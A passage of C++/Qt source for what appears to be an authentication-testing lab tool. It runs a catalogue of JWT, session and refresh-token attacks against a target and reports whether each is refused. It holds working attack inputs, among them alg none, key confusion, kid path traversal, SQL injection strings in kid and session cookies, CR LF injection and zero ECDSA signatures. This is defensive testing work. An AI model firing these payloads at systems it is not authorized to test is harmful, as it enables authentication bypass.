        return finish(attack, Outcome::Error, QStringLiteral("-"), login.error().message);
    }
    const Headers auth{{QByteArrayLiteral("Authorization"), QByteArrayLiteral("Bearer ") + login->accessToken}};
    auto out = m_probe.send(QByteArrayLiteral("POST"), kLogoutPath, auth);
    if (!out || out->status != 200) {
        return finish(attack, Outcome::Error, out ? describe(*out) : QStringLiteral("no answer"),
                      QStringLiteral("Logout with the bearer token failed."));
    }
    return judge(attack, bearer(login->accessToken));
}

AttackResult Run::refreshReplay(const AttackSpec& attack, bool family)
{
    auto login = loginJwt();
    if (!login) {
        return finish(attack, Outcome::Error, QStringLiteral("-"), login.error().message);
    }
    if (login->refreshToken.isEmpty()) {
        return finish(attack, Outcome::Skipped, QStringLiteral("-"),
                      QStringLiteral("The target issues no refresh token."));
    }
    auto first = refresh(login->refreshToken);
    const QByteArray rotated =
        first ? first->json().value(QStringLiteral("refresh_token")).toString().toLatin1() : QByteArray();
    if (!first || first->status != 200) {
        return finish(attack, Outcome::Error, first ? describe(*first) : QStringLiteral("no answer"),
                      QStringLiteral("Control failed: the first use of a fresh refresh token was refused."));
    }
    auto replay = refresh(login->refreshToken);
    if (!family) {
        return judge(attack, replay);
    }
    if (rotated.isEmpty() || rotated == login->refreshToken) {
        return finish(attack, Outcome::Skipped, QStringLiteral("-"),
                      QStringLiteral("The target does not rotate refresh tokens, so there is no family to end."));
    }
    AttackResult r = judge(attack, refresh(rotated));
    addNote(r.detail, QStringLiteral("The replay was answered %1.")
                          .arg(replay ? QString::number(replay->status) : QStringLiteral("with nothing")));
    return r;
}

AttackResult Run::execute(const AttackSpec& attack)
{
    const QString& id = attack.id;
    if (attack.needsSigningKey && !m_signingKey) {
        return finish(attack, Outcome::Skipped, QStringLiteral("-"),
                      QStringLiteral("Needs the target's private signing key (--key): signed with any other key, the "
                                     "signature check alone would refuse it."));
    }
    if (attack.needsKeyRevocation && !m_target.rotateAndRevoke) {
        return finish(attack, Outcome::Skipped, QStringLiteral("-"),
                      QStringLiteral("Needs a target whose key this run can revoke (the built-in server)."));
    }
    if (id == QStringLiteral("alg-none")) {
        return algNone(attack, QStringLiteral("none"));
    }
    if (id == QStringLiteral("alg-none-case")) {
        return algNone(attack, QStringLiteral("nOnE"));
    }
    if (id == QStringLiteral("signature-stripped")) {
        return signatureStripped(attack);
    }
    if (id == QStringLiteral("tampered-payload")) {
        return tamperedPayload(attack);
    }
    if (id == QStringLiteral("key-confusion-pem")) {
        return keyConfusion(attack, true);
    }
    if (id == QStringLiteral("key-confusion-jwk")) {
        return keyConfusion(attack, false);
    }
    if (id == QStringLiteral("embedded-jwk")) {
        return embeddedJwk(attack);
    }
    if (id == QStringLiteral("jku-bait")) {
        return remoteKeyUrl(attack, false);
    }
    if (id == QStringLiteral("x5u-bait")) {
        return remoteKeyUrl(attack, true);
    }
    if (id == QStringLiteral("kid-path-traversal")) {
        return kidInjection(attack, QStringLiteral("../../../../../../../../dev/null"), QByteArray());
    }
    if (id == QStringLiteral("kid-sql-injection")) {
        return kidInjection(attack, QStringLiteral("x' UNION SELECT 'authscope-attack-secret-0123456789' --"),
                            QByteArrayLiteral("authscope-attack-secret-0123456789"));
    }
    if (id == QStringLiteral("kid-header-injection")) {
        return kidHeaderInjection(attack);
    }
    if (id == QStringLiteral("ecdsa-zero-signature")) {
        return ecdsaZero(attack);
    }
    if (id == QStringLiteral("oversized-token")) {
        return oversized(attack, false);
    }
    if (id == QStringLiteral("deeply-nested")) {
        return oversized(attack, true);
    }
    if (id == QStringLiteral("revoked-key")) {
        return revokedKey(attack);
    }
    if (id == QStringLiteral("session-forged-id")) {
        return sessionForged(attack, randomId(32));
    }
    if (id == QStringLiteral("session-sql-injection")) {
        return sessionForged(attack, QByteArrayLiteral("' OR '1'='1' --"));
    }
    if (id == QStringLiteral("session-fixation")) {
        return sessionFixation(attack);
    }
    if (id == QStringLiteral("session-old-id-after-login")) {
        return sessionAfterRelogin(attack);
    }
    if (id == QStringLiteral("session-after-logout")) {
        return sessionAfterLogout(attack);
    }
    if (id == QStringLiteral("jwt-after-logout")) {
        return jwtAfterLogout(attack);
    }
    if (id == QStringLiteral("refresh-replay")) {
        return refreshReplay(attack, false);
    }
    if (id == QStringLiteral("refresh-family-after-reuse")) {
        return refreshReplay(attack, true);
    }
    if (attack.needsSigningKey) {
        return claimsAttack(attack);
    }
    return finish(attack, Outcome::Error, QStringLiteral("-"), QStringLiteral("No implementation for this attack."));
}

} // namespace

QString AttackResult::outcomeName(Outcome outcome)
{
    switch (outcome) {
    case Outcome::Refused:
        return QStringLiteral("pass");
    case Outcome::Accepted:
        return QStringLiteral("FAIL");
    case Outcome::Skipped:
        return QStringLiteral("skipped");
    case Outcome::Error:
        return QStringLiteral("error");
    }
    return {};
}

AttackRunner::AttackRunner() = default;
AttackRunner::~AttackRunner() = default;

QList<AttackSpec> AttackRunner::catalogue()
{
    static const QList<AttackSpec> list{
        // Tokens: the signature and its key.
        spec("alg-none", "alg: none", "token", "SECURITY.md 2; RFC 8725 §2.1; CVE-2022-23540",
             "An unsigned token with alg \"none\" and valid claims.", "401"),
        spec("alg-none-case", "alg: nOnE", "token", "SECURITY.md 2; RFC 8725 §2.1",
             "alg \"nOnE\": a case variant of none that slips past case-sensitive deny-lists.", "401"),
        spec("signature-stripped", "signature stripped", "token", "SECURITY.md 1-2; RFC 7515 §5.2",
             "A token the target issued, with its signature removed.", "401"),
        spec("tampered-payload", "tampered payload", "token", "SECURITY.md 1; RFC 7515 §5.2",
             "A token the target issued, with sub and roles changed to admin and the old signature.", "401"),
        spec("key-confusion-pem", "HS256 keyed with public PEM", "keys",
             "SECURITY.md 1; RFC 8725 §3.1; CVE-2015-9235; CVE-2016-10555; CVE-2022-29217",
             "HS256 with the target's published RSA/EC public key (SPKI PEM) as HMAC secret and that key's kid.",
             "401"),
        spec("key-confusion-jwk", "HS256 keyed with public JWK", "keys", "SECURITY.md 1; RFC 8725 §3.1; CVE-2016-10555",
             "HS256 with the JSON text of the target's published public JWK as HMAC secret.", "401"),
        spec("embedded-jwk", "embedded jwk", "keys", "SECURITY.md 7; CVE-2018-0114",
             "ES256 signed by the attacker, whose public key rides along in the header's jwk.", "401"),
        spec("jku-bait", "jku to attacker JWKS", "keys", "SECURITY.md 7; RFC 8725 §2.9, §3.10",
             "Signed by the attacker; jku points to the attacker's JWKS on 127.0.0.1. The target must neither "
             "accept it nor fetch the URL.",
             "401, no fetch"),
        spec("x5u-bait", "x5u to attacker cert", "keys", "SECURITY.md 7; RFC 8725 §2.9, §3.10",
             "Signed by the attacker; x5u points to the attacker's certificate on 127.0.0.1. The target must neither "
             "accept it nor fetch the URL.",
             "401, no fetch"),
        spec("kid-path-traversal", "kid path traversal", "keys", "SECURITY.md 7; RFC 8725 §3.10; OWASP-J",
             "kid \"../../../dev/null\", HS256 with an empty secret (the contents of /dev/null).", "401"),
        spec("kid-sql-injection", "kid SQL injection", "keys", "SECURITY.md 7; RFC 8725 §3.10; OWASP-J",
             "kid \"x' UNION SELECT '<secret>' --\", HS256 keyed with that secret.", "401"),
        spec("kid-header-injection", "kid CR LF injection", "keys", "SECURITY.md 7, 22; OWASP-J; CWE-113",
             "kid with CR LF and a header line, to see whether an error message reflects it into the response "
             "headers.",
             "401, no header"),
        spec("ecdsa-zero-signature", "ECDSA r = s = 0", "token", "SECURITY.md 4; CVE-2022-21449",
             "ES256 with the kid of the target's P-256 key and a signature of 64 zero bytes.", "401"),
        spec("crit-unknown", "unknown crit", "token", "SECURITY.md 8; RFC 7515 §4.1.11; CVE-2026-32597",
             "Signed with the real key; crit names an extension nobody understands.", "401", true),
        spec("b64-false", "b64: false", "token", "SECURITY.md 8; RFC 7797 §7",
             "Signed with the real key; a JWT whose header says b64: false (crit: [\"b64\"]).", "401", true),
        spec("duplicate-header", "duplicate header alg", "token", "SECURITY.md 9; RFC 7515 §5.2; RFC 8725 §2.6",
             "Signed with the real key; the header says alg twice (\"none\" first, the real one last).", "401", true),
        spec("duplicate-claims", "duplicate claims", "claims", "SECURITY.md 9; RFC 7519 §4; RFC 8725 §2.6",
             "Signed with the real key; the claims say sub twice (\"admin\" first, the real user last).", "401", true),
        // Claims, each signed with the real key so that only the claim check can refuse it.
        spec("expired", "expired", "claims", "SECURITY.md 10; RFC 7519 §4.1.4",
             "Signed with the real key; exp an hour ago (beyond any leeway).", "401", true),
        spec("not-yet-valid", "not yet valid", "claims", "SECURITY.md 10; RFC 7519 §4.1.5",
             "Signed with the real key; nbf an hour ahead.", "401", true),
        spec("no-exp", "no exp", "claims", "SECURITY.md 10",
             "Signed with the real key; no exp at all (a token that never expires).", "401", true),
        spec("wrong-aud", "wrong aud", "claims", "SECURITY.md 10; RFC 8725 §3.9; CVE-2020-26160",
             "Signed with the real key; aud names another API.", "401", true),
        spec("wrong-iss", "wrong iss", "claims", "SECURITY.md 10; RFC 8725 §3.8",
             "Signed with the real key; iss names another issuer.", "401", true),
        // Size and depth caps.
        spec("oversized-token", "oversized token", "token", "SECURITY.md 6; CVE-2025-30204",
             "A token over 16 KiB (signed with the real key when known).", "401/413/431"),
        spec("deeply-nested", "deeply nested claims", "token", "SECURITY.md 6; RFC 8259 §9",
             "Claims nested 64 levels deep, beyond the JSON depth cap (signed with the real key when known).", "401"),
        spec("revoked-key", "token of a revoked key", "keys", "SECURITY.md 13, 18",
             "A token of the active key, accepted, then sent again after the key was rotated and revoked.", "401", true,
             true),
        // Sessions.
        spec("session-forged-id", "made-up session ID", "session", "SECURITY.md 15; OWASP-S",
             "A well-formed session cookie (32 random bytes) the target never issued.", "401"),
        spec("session-sql-injection", "session ID SQL injection", "session", "SECURITY.md 15; OWASP-S",
             "A session cookie of ' OR '1'='1' --.", "401"),
        spec("session-fixation", "fixed session ID", "session", "SECURITY.md 15; OWASP-S (session fixation)",
             "The client logs in carrying an attacker-chosen ID; that ID must not become the session.", "401"),
        spec("session-old-id-after-login", "old ID after new login", "session", "SECURITY.md 15; OWASP-S",
             "Logging in again with a live session ID; the old ID must stop working.", "401"),
        spec("session-after-logout", "logged-out session ID", "session", "SECURITY.md 18; OWASP-S",
             "A session cookie used again after logout.", "401"),
        spec("jwt-after-logout", "JWT after logout", "session", "SECURITY.md 12, 18",
             "An access token used again after logout with it (the deny-list).", "401"),
        // Refresh tokens.
        spec("refresh-replay", "replayed refresh token", "refresh", "RFC 9700 §4.14.2; OWASP-J",
             "A refresh token used a second time after it was rotated.", "400/401"),
        spec("refresh-family-after-reuse", "refresh family after reuse", "refresh", "RFC 9700 §4.14.2",
             "After a replay, the legitimately rotated refresh token must be dead too (theft detection).", "400/401"),
    };
    return list;
}

Result<QList<AttackResult>> AttackRunner::run(const AttackTarget& target, const Progress& progress)
{
    auto probe = HttpProbe::forUrl(target.baseUrl, target.timeoutMs);
    if (!probe) {
        return std::unexpected(probe.error());
    }
    Run run(target, *probe);
    if (auto ready = run.prepare(); !ready) {
        return std::unexpected(ready.error());
    }
    QList<AttackSpec> attacks = catalogue();
    if (!m_only.isEmpty()) {
        attacks.removeIf([this](const AttackSpec& a) { return !m_only.contains(a.id); });
    }
    QList<AttackResult> results;
    for (const AttackSpec& attack : std::as_const(attacks)) {
        QElapsedTimer timer;
        timer.start();
        AttackResult result = run.execute(attack);
        result.elapsedMs = timer.elapsed();
        results.append(result);
        if (progress && !progress(static_cast<int>(results.size()), static_cast<int>(attacks.size()), result)) {
            break;
        }
    }
    return results;
}

AttackSummary AttackRunner::summarise(const QList<AttackResult>& results)
{
    AttackSummary s;
    for (const AttackResult& r : results) {
        ++s.total;
        switch (r.outcome) {
        case Outcome::Refused:
            ++s.refused;
            break;
        case Outcome::Accepted:
            ++s.accepted;
            break;
        case Outcome::Skipped:
            ++s.skipped;
            break;
        case Outcome::Error:
            ++s.errors;
            break;
        }
    }
    return s;
}

QJsonObject AttackRunner::toJson(const QList<AttackResult>& results, const QString& baseUrl)
{
    QJsonArray rows;
    for (const AttackResult& r : results) {
        rows.append(QJsonObject{{QStringLiteral("id"), r.spec.id},
                                {QStringLiteral("name"), r.spec.name},
                                {QStringLiteral("category"), r.spec.category},
                                {QStringLiteral("reference"), r.spec.reference},
                                {QStringLiteral("expected"), r.spec.expected},
                                {QStringLiteral("status"), r.status},
                                {QStringLiteral("got"), r.got},
                                {QStringLiteral("result"), AttackResult::outcomeName(r.outcome)},
                                {QStringLiteral("detail"), r.detail},
                                {QStringLiteral("elapsed_ms"), r.elapsedMs}});
    }
    const AttackSummary s = summarise(results);
    QJsonObject json{{QStringLiteral("summary"), QJsonObject{{QStringLiteral("total"), s.total},
                                                             {QStringLiteral("refused"), s.refused},
                                                             {QStringLiteral("accepted"), s.accepted},
                                                             {QStringLiteral("skipped"), s.skipped},
                                                             {QStringLiteral("errors"), s.errors},
                                                             {QStringLiteral("all_refused"), s.allRefused()}}},
                     {QStringLiteral("attacks"), rows}};
    if (!baseUrl.isEmpty()) {
        json.insert(QStringLiteral("target"), baseUrl);
    }
    return json;
}

Result<jose::Jwk> AttackRunner::signingKeyFromFile(const QByteArray& contents)
{
    auto set = jose::JwkSet::fromKeyFile(contents);
    if (!set) {
        return std::unexpected(set.error());
    }
    for (const jose::Jwk& key : set->keys()) {
        if (key.isPrivate()) {
            return key;
        }
    }
    return fail(QStringLiteral("lab.not-private"),
                QStringLiteral("The file holds no private key; the claim attacks must be signed with the target's "
                               "private signing key."));
}

QString AttackRunner::summaryLine(const AttackSummary& s)
{
    return QStringLiteral("%1 of %2 attacks refused, %3 accepted, %4 errors, %5 skipped")
        .arg(s.refused)
        .arg(s.total)
        .arg(s.accepted)
        .arg(s.errors)
        .arg(s.skipped);
}

QString AttackRunner::formatTable(const QList<AttackResult>& results)
{
    const QStringList headers{QStringLiteral("attack"), QStringLiteral("expected"), QStringLiteral("got"),
                              QStringLiteral("result")};
    QList<QStringList> rows;
    for (const AttackResult& r : results) {
        rows.append({r.spec.id, r.spec.expected, r.got, AttackResult::outcomeName(r.outcome)});
    }
    QList<qsizetype> widths;
    for (const QString& h : headers) {
        widths.append(h.size());
    }
    for (const QStringList& row : std::as_const(rows)) {
        for (qsizetype i = 0; i < row.size(); ++i) {
            widths[i] = std::max(widths[i], row.at(i).size());
        }
    }
    const auto line = [&widths](const QStringList& cells) -> QString {
        QString text;
        for (qsizetype i = 0; i < cells.size(); ++i) {
            text += i + 1 < cells.size() ? cells.at(i).leftJustified(widths.at(i) + 2) : cells.at(i);
        }
        return text + u'\n';
    };
    QString out = line(headers);
    for (const QStringList& row : std::as_const(rows)) {
        out += line(row);
    }
    bool notes = false;
    for (const AttackResult& r : results) {
        if (r.outcome != Outcome::Refused && !r.detail.isEmpty()) {
            if (!notes) {
                out += u'\n';
                notes = true;
            }
            out += QStringLiteral("%1 (%2): %3\n").arg(r.spec.id, AttackResult::outcomeName(r.outcome), r.detail);
        }
    }
    out += u'\n' + summaryLine(summarise(results)) + u'\n';
    return out;
}

} // namespace authscope::lab
